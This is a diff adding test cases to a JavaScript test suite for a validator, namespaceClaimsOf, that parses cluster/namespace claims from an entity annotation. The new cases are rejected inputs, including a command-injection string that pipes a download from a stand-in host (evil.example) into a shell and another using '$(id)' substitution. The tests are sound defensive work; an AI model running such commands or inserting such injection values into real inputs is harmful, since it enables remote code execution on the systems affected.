@@ -52,6 +52,10 @@ describe('namespaceClaimsOf', () => {
     ['eu/Payments', "'Payments', which is no name"],
     ['eu/-a', "'-a', which is no name"],
     [`eu/${'a'.repeat(64)}`, 'which is no name'],
+    ['eu; curl evil.example|sh #/payments', 'which is no name of a cluster'],
+    ['$(id)/payments', 'which is no name of a cluster'],
+    ['*/payments', 'which is no name of a cluster'],
+    ['-eu/payments', 'which is no name of a cluster'],
   ])('refuses %j', (value, message) => {
     expect(() =>
       namespaceClaimsOf(entityWith({ 'velero.io/namespaces': value })),
